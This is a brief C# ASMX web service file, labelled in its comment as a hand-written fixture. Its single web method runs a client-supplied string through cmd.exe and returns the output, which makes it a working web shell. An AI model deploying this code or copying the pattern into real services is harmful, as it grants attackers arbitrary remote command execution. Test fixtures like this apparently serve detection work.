<%@ WebService Language="C#" Class="Svc" %>
// Hand-written fixture: a web service method runs its parameter, which
// the client sends in the SOAP or JSON request, as a command.
using System.Web.Services;
using System.Diagnostics;
public class Svc : WebService {
    [WebMethod]
    public string Run(string cmd) {
        Process p = Process.Start(new ProcessStartInfo("cmd.exe", "/c " + cmd) { RedirectStandardOutput = true, UseShellExecute = false });
        return p.StandardOutput.ReadToEnd();
    }
}
